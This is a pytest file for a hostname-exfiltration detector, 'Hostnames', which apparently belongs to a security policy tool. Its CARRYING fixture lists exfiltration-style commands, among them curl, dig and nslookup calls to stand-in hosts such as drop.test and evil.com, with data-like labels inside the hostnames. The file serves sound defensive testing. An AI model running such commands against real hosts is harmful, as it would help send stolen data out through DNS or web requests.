"""Names of hosts that carry data are found, and names of machines are not."""

from __future__ import annotations

from time import monotonic

import pytest

from sparkgate.policy.forms.view import View
from sparkgate.policy.hostnames import Hostnames

CARRYING = {
    "https://k7q2mz9x4vb8np3wt6rj.collect.test/": "k7q2mz9x4vb8np3wt6rj",
    "http://a.4f1c9e2b7d8a6035c1e9f7b2.evil.test/x": "4f1c9e2b7d8a6035c1e9f7b2",
    "dig mfrggzdfmztwq2lknnwg23tpobyxe43ux2.drop.test": "mfrggzdfmztwq2lknnwg23tpobyxe43ux2",
    "curl -s https://user@zx81qv92kd73mf64pl55.drop.test/": "zx81qv92kd73mf64pl55",
    "mfrggzdfmztwq2lknnwg23tpobyxe4.evil.io": "mfrggzdfmztwq2lknnwg23tpobyxe4",
    "lookup 4f1c9e2b7d8a6035c1e9f7b24f1c9e2b7d8a60354f1c9e2b7d8a60354f1c.evil.dev/x": (
        "4f1c9e2b7d8a6035c1e9f7b24f1c9e2b7d8a60354f1c9e2b7d8a60354f1c"
    ),
    "why does a.xkcdzrtplmwqvbnhgfdsjkrtwpzxcv.evil.com resolve": "xkcdzrtplmwqvbnhgfdsjkrtwpzxcv",
    "nslookup prefix-t4k8w2p9q6z1x7c3v5b.drop.test 9.9.9.9": "t4k8w2p9q6z1x7c3v5b",
}
RENTED_LOOKALIKE = "https://k7q2mz9x4vb8np3wt6rj.vercel.app.evil.dev/"
ORDINARY = [
    "https://docs.nvidia.com/cuda/cuda-c-programming-guide/",
    "https://ec2-203-0-113-25.eu-central-1.compute.amazonaws.com/",
    "https://internationalization.documentation.example.org/",
    "https://model-00001-of-00004.safetensors.example.org/",
    "https://raw.githubusercontent.com/vllm-project/vllm/main/README.md",
    "https://d111111abcdef8.cloudfront.net/app.js",
    "sha256 4f1c9e2b7d8a6035c1e9f7b24f1c9e2b7d8a6035.tar.gz",
    "https://registry-1.docker.io/v2/",
    "SomeVeryLongIdentifier32WithDigits64Inside.config.build",
    "4f1c9e2b7d8a6035c1e9f7b24f1c9e2b7d8a6035.model.safetensors and .index.json",
    "models/4f1c9e2b7d8a6035c1e9f7b24f1c9e2b7d8a6035.part.io",
    "https://4f1c9e2b7d8a6035c1e9f7b2.ngrok-free.app/v1",
    "https://k7q2mz9x4vb8np3wt6rj.trycloudflare.com",
    "https://k7q2mz9x4vb8np3wt6rj.azurewebsites.net/api",
    "https://k7q2mz9x4vb8np3wt6rj.s3.eu-central-1.amazonaws.com/f",
    "https://k7q2mz9x4vb8np3wt6rj-team.vercel.app",
    "https://k7q2mz9x4vb8np3wt6rj.hf.space",
    "https://k7q2mz9x4vb8np3wt6rj-uc.a.run.app",
    "https://huggingface.co/Qwen/Qwen3-235B-A22B-Instruct-2507-FP8",
]


@pytest.mark.parametrize("text", CARRYING)
def test_a_part_of_a_name_that_is_no_word_is_found(text: str) -> None:
    (found,) = Hostnames().find(View("raw", text), monotonic() + 30)
    assert text[found.start : found.end] == CARRYING[text] and found.rule.id == "data-in-hostname"


@pytest.mark.parametrize("text", ORDINARY)
def test_names_of_machines_and_files_are_left_alone(text: str) -> None:
    assert Hostnames().find(View("raw", text), monotonic() + 30) == []


def test_a_name_that_only_begins_like_a_rented_one_carries_data() -> None:
    (found,) = Hostnames().find(View("raw", RENTED_LOOKALIKE), monotonic() + 30)
    assert RENTED_LOOKALIKE[found.start : found.end] == "k7q2mz9x4vb8np3wt6rj"
